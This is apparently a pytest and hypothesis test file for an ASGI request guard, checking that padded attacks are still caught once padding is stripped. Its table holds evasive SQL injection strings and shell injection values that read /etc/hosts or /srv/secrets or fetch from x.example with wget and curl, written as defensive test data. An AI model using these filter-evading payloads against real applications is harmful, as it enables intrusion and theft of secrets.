"""Padding: what the target skips or does not count never carries an attack past a rule that repeats with a bound."""

from __future__ import annotations

from collections.abc import Generator
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from asgi_guard.inspection.padding import is_padded, unpad, unpad_slowly
from tests.support.textbook import KINDS, blocks, table

LONG = "a" * 40
PADDED = {
    "literals": {
        "long texts": f"x' or '{LONG}'='{LONG}",
        "texts of words": f"x' or 'b'='b' and '{'word ' * 9}'='{'word ' * 9}",
        "long numbers": f"1 or {'1' * 40}={'1' * 40}",
        "hexadecimal numbers": f"1 or 0x{'1' * 60}=0x{'1' * 60}",
        "a sum with blanks": f"x' or 1{'  +  0' * 20}=1 -- ",
        "a sum of decimals": f"x' or 1{'+0.0' * 20}=1 -- ",
        "a sum": f"1 or {'1+' * 20}1=21",
    },
    "brackets": {
        "around a number": f"1 or {'(' * 9}1{')' * 9}=1",
        "with blanks": f"1 or {'( ' * 30}1{') ' * 30}=1",
        "with two blanks": f"x' or {'(  ' * 10}1{'  )' * 10}=1 -- ",
        "with lines": f"x' or {'(' + chr(10) * 2}{('(' + chr(10) * 2) * 9}1{')' * 10}=1 -- ",
        "with signs": f"x' or {'(+' * 10}1{')' * 10}=1 -- ",
        "before a query": f"1 union{'(' * 20}select pw from t",
        "before a query, with a blank": f"1 union {'(' * 20}select 1,2",
    },
    "comments": {
        "in a line that is one": "x' or -- /*\n1=1 -- */",
        "before a query, in a line that is one": "x' union -- /*\nselect pw,1 from t -- */",
        "in a line of another database": "x' or # /*\n1=1 # */",
        "in a text": "x' or '/*'='/*' -- */",
        "in a text of two": 'x" or "a/*"="a/*" -- */',
        "to the end of a line": f"x' or -- {LONG * 100}\n1=1 -- ",
        "one that runs, and a sum": f"1 /*!50000or*/ 1{'+0' * 20}=1 -- ",
        "two that run, and a long one": f"x' /*!50000union*/ /*{LONG * 120}*/ /*!50000select*/ 1,2 -- ",
    },
    "signs": {
        "minus": f"1 or {'- ' * 9}1=1",
        "with two blanks": f"x' or {'-  ' * 8}1=1 -- ",
        "bits": f"1 or {'~' * 10}1=1",
        "not, and a tab": f"x' or {'not' + chr(9)}{('not' + chr(9)) * 9}1=1 -- ",
        "not": f"x' or {'not ' * 9}1=1 -- ",
    },
    "beginnings": {
        "a long name": f"{LONG}; cat /etc/hosts",
        "a longer name": f"{LONG * 4} && wget http://x.example/y",
        "a name and a substitution": f"{LONG * 2}$(curl http://x.example/y)",
        "a name, and a command in quotes": f"{LONG * 2}|'c'at /etc/hosts",
        "a name, and an escaped command": f"{LONG * 2}|\\cat /etc/hosts",
        "a name, and a substitution with a blank": f"{LONG * 2}$( cat /etc/hosts)",
        "a name, and a command beside it": f"{LONG * 2} & cat /etc/hosts",
        "a name with brackets": f"{'a(' * 40}; cat /srv/secrets",
        "a word, again and again": f"{'a ' * 40}; cat /srv/secrets",
        "words, again and again": f"{'ping the host ' * 9}| cat /srv/secrets",
        "what a shell passes over": f"x; c{'$@' * 2_500}at /etc/hosts",
        "lines that go on": "x; c" + chr(92) + chr(10) + (chr(92) + chr(10)) * 2_500 + "at /etc/hosts",
        "a name in words": "my file.txt; cat /etc/hosts",
        "many words": f"{'word ' * 40}' or name is not null -- ",
        "a long text": f"{LONG * 3}'--",
        "more than a window": f"{'word ' * 2_000}' or name is not null -- ",
    },
    "blanks": {
        "before a command": f"a;{' ' * 20}cat /etc/hosts",
        "behind a command": f"a; cat{' ' * 20}/etc/hosts",
        "tabs": "a;" + "\t" * 20 + "cat /etc/hosts",
    },
}

FILLERS = st.sampled_from(["(", "( ", "- ", "~", "not ", "  ", "\t", "/**/"])
TIMES = st.integers(0, 120)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", table(PADDED))
def test_an_attack_is_found_however_it_is_padded(text: str, kind: str) -> None:
    """At level 1, in each place."""
    assert blocks(text, kind, 1)


@given(filler=FILLERS, times=TIMES)
def test_no_filler_of_a_condition_hides_it(filler: str, times: int) -> None:
    """However often it stands there."""
    shut = ")" * (times * filler.count("("))

    assert blocks(f"1 or {filler * times}1{shut}=1", "query", 1)


@given(name=st.text("abcxyz019._-", max_size=200), blanks=TIMES, argument=st.text("abcxyz", min_size=1, max_size=200))
def test_no_name_and_no_blanks_hide_a_command(name: str, blanks: int, argument: str) -> None:
    """Before the separator, behind it, and behind the command."""
    assert blocks(f"{name};{' ' * blanks}cat{' ' * (blanks + 1)}/etc/{argument}", "query", 1)


@given(letter=st.sampled_from("az09_"), times=st.integers(1, 300), before=st.text("abc ", max_size=300))
def test_no_length_of_a_literal_hides_a_comparison(letter: str, times: int, before: str) -> None:
    """Nor what stands before it."""
    assert blocks(f"{before}' or '{letter * times}'='{letter * times}", "query", 1)


@pytest.mark.parametrize(
    "text",
    [
        "a plain sentence about 1 (or 2) things",
        "2026-01-02 03:04:05",
        "eyJhbGciOiJIUzI1NiJ9." + "a" * 300,
        "https://x.example/" + "a" * 300,
        "f(g(h(1)))"[:-1],
        "don't",
    ],
    ids=["sentence", "time", "token", "address", "calls", "apostrophe"],
)
def test_what_is_not_padded_is_looked_at_once(text: str) -> None:
    """A token alone may be as long as it likes."""
    assert not is_padded(text)


@pytest.mark.parametrize(
    ("text", "short"),
    [
        (f"'{LONG}'='{LONG}'", "'aaaaaaaa'='aaaaaaaa'"),
        ("1 or ((((1))))=1", "1 or (1)=1"),
        ("1 or 0x" + "1" * 40 + "=2", "1 or 0x11111111=2"),
        ("a/*b*/c", "a c"),
        ("a      b", "a b"),
        ("1 or not not not 2", "1 or not 2"),
        ("1-1-1-1-1-1=2", "1=2"),
        ("x ------ y", "x ------ y"[:4] + "y"),
    ],
    ids=["literals", "brackets", "hexadecimal", "comment", "blanks", "not", "sum", "comment to the end"],
)
def test_padding_is_taken_out(text: str, short: str) -> None:
    """And what is left means the same."""
    assert unpad(text) == short


@given(st.text("a1 '\"()=-/*;\n", max_size=400))
def test_a_text_is_unpadded_in_pieces_as_it_is_at_once(text: str) -> None:
    """As long as it is one piece; and it never grows."""
    pieces: list[str] = []

    def collect() -> Generator[None]:
        pieces.append((yield from unpad_slowly(text)))

    for _ in collect():
        pass
    assert pieces == [unpad(text)]
    assert len(unpad(text)) <= len(text) + 1


@pytest.mark.parametrize(
    "filler", ["- ", "-", "1+", "/*", "/**/", "/./", "a   ", "((", "'", '"a', "not ", "a" * 33 + "'", "x", " ", "\n "]
)
@pytest.mark.parametrize("end", ["", ";", "1", " x"])
def test_no_filler_is_read_again_and_again(filler: str, end: str) -> None:
    """Eight times the text takes about eight times as long, not sixty-four times."""

    def took(length: int) -> float:
        text = (filler * length)[:length] + end
        times = []
        for _ in range(3):
            began = process_time()
            unpad(text)
            times.append(process_time() - began)
        return min(times)

    assert took(16_000) <= 30 * took(2_000) + 0.002
